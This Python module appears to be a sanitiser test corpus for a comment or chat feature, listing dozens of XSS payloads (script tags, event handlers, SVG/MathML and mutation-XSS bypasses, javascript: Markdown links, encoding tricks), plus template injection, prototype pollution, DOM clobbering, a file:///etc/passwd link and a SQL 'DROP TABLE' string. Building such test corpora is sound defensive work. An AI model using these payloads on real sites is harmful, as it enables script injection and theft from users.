"""What people try in order to run a script in other people's pages, one text each.

In each text `@JS@` is a script to run, and `@URL@` an address that nobody is to ask. Kinds follow OWASP's cheat sheet
on filter evasion, DOMPurify's tests of mutation XSS, and what is known to have passed Markdown renderers.
"""

MARK = "runByComment"
"""The global that a script of the corpus would set."""

SCRIPT = f"window.{MARK}=1"

TAGS = (
    "<script>@JS@</script>",
    "<SCRIPT SRC=@URL@/x.js></SCRIPT>",
    "<scr<script>ipt>@JS@</scr</script>ipt>",
    "<script/random>@JS@</script\t>",
    "<<script>@JS@//<</script>",
    "<script>@JS@",
    "</textarea><script>@JS@</script>",
    "</title><script>@JS@</script>",
    "--><script>@JS@</script><!--",
    "]]><script>@JS@</script>",
    '"><script>@JS@</script>',
    "'-@JS@-'",
    "<iframe src=@URL@></iframe>",
    '<iframe srcdoc="<script>parent.@JS@</script>"></iframe>',
    "<object data=@URL@></object><embed src=@URL@>",
    "<base href=@URL@/><a href=x>x</a>",
    "<link rel=stylesheet href=@URL@/x.css><link rel=prefetch href=@URL@/y>",
    "<style>@import '@URL@/x.css'; * { background: url(@URL@/bg) }</style>",
    '<meta http-equiv=refresh content="0;url=@URL@">',
    "<form action=@URL@><button autofocus formaction=javascript:@JS@>press</button></form>",
    "<portal src=@URL@></portal><fencedframe src=@URL@></fencedframe>",
    '<template shadowrootmode="open"><script>@JS@</script></template>',
)

HANDLERS = (
    "<img src=x onerror=@JS@>",
    '<img src="x` `<script>@JS@</script>"` `>',
    "<img/src/onerror=@JS@>",
    "<IMG SRC=@URL@/pixel.png>",
    "<svg onload=@JS@>",
    "<svg/onload=@JS@//",
    "<body onload=@JS@>",
    "<details open ontoggle=@JS@>x</details>",
    "<video><source onerror=@JS@></video>",
    "<audio src onloadstart=@JS@>",
    "<input autofocus onfocus=@JS@>",
    "<marquee onstart=@JS@>x</marquee>",
    "<a onmouseover=@JS@>hover</a>",
    "<b/onclick='@JS@'>press</b>",
    "<p style=animation-name:x onanimationstart=@JS@>x",
    '<code title="&quot; onmouseover=@JS@ x=&quot;">x</code>',
    "<xss id=x tabindex=1 onfocus=@JS@></xss>",
    "<img src=x\x0conerror=@JS@>",
)

FOREIGN = (
    "<svg><script>@JS@</script></svg>",
    "<svg><a xlink:href=javascript:@JS@><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=@JS@ attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>@JS@</script></svg>#x"/></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>parent.@JS@</script>'></iframe></foreignObject></svg>",
    "<svg><image href=@URL@/image.svg></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=@JS@&gt;'>",
    "<math href=javascript:@JS@><mi>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:@JS@>x</maction></math>",
)

MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=@JS@>">',
    "<svg></p><style><a id='</style><img src=1 onerror=@JS@>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=@JS@ src>'>",
    "<table><td><select><mtext><style><!--</style><a title='--><img src=x onerror=@JS@>'>",
    "<listing>&lt;img src=1 onerror=@JS@&gt;</listing>",
    "<xmp><img src=x onerror=@JS@></xmp>",
    "<b><plaintext><img src=x onerror=@JS@>",
    "<a/href='javascript:@JS@'/x='><b'>x</a>",
    "<a href='https://a.example/\"><img src=x onerror=@JS@>'>x</a>",
)

LINKS = (
    "[x](javascript:@JS@)",
    "[x](JaVaScRiPt:@JS@)",
    "[x](  javascript:@JS@  )",
    "[x](java\tscript:@JS@)",
    "[x](java&#10;script:@JS@)",
    "[x](java&Tab;script:@JS@)",
    "[x](javascript&colon;@JS@)",
    "[x](&#x6A;&#x61;&#x76;&#x61;script:@JS@)",
    "[x](&#1;javascript:@JS@)",
    "[x](\u00a0javascript:@JS@)",
    "[x](\u200bjavascript:@JS@)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>@JS@</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQ=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/0)",
    "[x](view-source:javascript:@JS@)",
    "[x](feed:javascript:@JS@)",
    '[x](https://a.example/"onmouseover=@JS@//)',
    '[x](<https://a.example/" onmouseover="@JS@>)',
    "[x](https://a.example 'a\"onmouseover=\"@JS@')",
    "[<img src=x onerror=@JS@>](https://a.example)",
    "[![x](@URL@/nested.png)](https://a.example)",
    "![x](@URL@/image.png)",
    "![x](javascript:@JS@)",
    '!["onerror="@JS@](x)',
    "[x]: javascript:@JS@\n\n[x]",
    "[x][y]\n\n[y]: <javascript:@JS@>",
    "<javascript:@JS@>",
    "<javascript://a.example/%0A@JS@>",
    '<https://a.example/"onmouseover=@JS@>',
    'https://a.example/"onmouseover="@JS@',
    "https://a.example/<script>@JS@</script>",
    "javascript://a.example/%0a@JS@",
    "mailto:a@a.example?body=<script>@JS@</script>",
    "[x](//a.example/..;javascript:@JS@)",
    "`<script>@JS@</script>`",
    "```html\n<script>@JS@</script>\n```",
    '```"><script>@JS@</script>\nx\n```',
    "> <script>@JS@</script>\n\n- <img src=x onerror=@JS@>",
    "*<img src=x* onerror=@JS@>*",
    "~~[x](javascript:@JS@~~)",
)

ENCODINGS = (
    "&lt;script&gt;@JS@&lt;/script&gt;",
    "&#60;img src=x onerror=@JS@&#62;",
    "&#x3c;svg/onload=@JS@&#x3e;",
    "&amp;lt;script&amp;gt;@JS@",
    "\\<script>@JS@\\</script>",
    "\uff1cscript\uff1e@JS@\uff1c/script\uff1e",
    "\u02c2img src=x onerror=@JS@\u02c3",
    "<\u0130mg src=x onerror=@JS@>",
    "<\u017fcript>@JS@</\u017fcript>",
    "\u202e>tpircs/<@JS@>tpircs<\u202c",
    "\ufeff<script>@JS@</script>\u2028\u2029",
    "<a\u0000href=javascript:@JS@>x</a>",
    "%3Cscript%3E@JS@%3C/script%3E",
    "\\u003cscript\\u003e@JS@",
    "+ADw-script+AD4-@JS@+ADw-/script+AD4-",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467<img src=x onerror=@JS@>\u0301",
)

TEMPLATES = (
    "${@JS@}",
    "`${@JS@}`",
    "{{constructor.constructor('@JS@')()}}",
    "{{7*7}}<%= @JS@ %>#{@JS@}",
    "{n}",
    "$& $1 $` $'",
    "<div ng-app ng-csp><input ng-focus=$event.view.@JS@ autofocus></div>",
    '{"__proto__":{"isModerator":true}}',
    "'; DROP TABLE comment; --",
)

CLOBBERING = (
    "<form id=document><input name=cookie></form>",
    "<img name=getElementById><img name=currentScript>",
    "<a id=CollabChat href=javascript:@JS@></a>",
    "<a id=adoptedStyleSheets><a id=adoptedStyleSheets name=length>",
    "<input name=attributes><input name=children>",
    "<collab-chat data-collabchat-ignore><script>@JS@</script></collab-chat>",
)

NAMES = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "__defineGetter__",
    "then",
    "length",
    "innerHTML",
    "null",
    "undefined",
    "[object Object]",
)
"""What is a name to people and something else to a program; without a script to run."""


def texts(script: str = SCRIPT, url: str = "https://canary.example") -> list[str]:
    """The corpus, with a script and an address in their places."""
    kinds = (TAGS, HANDLERS, FOREIGN, MUTATIONS, LINKS, ENCODINGS, TEMPLATES, CLOBBERING, NAMES)
    return [text.replace("@JS@", script).replace("@URL@", url) for kind in kinds for text in kind]
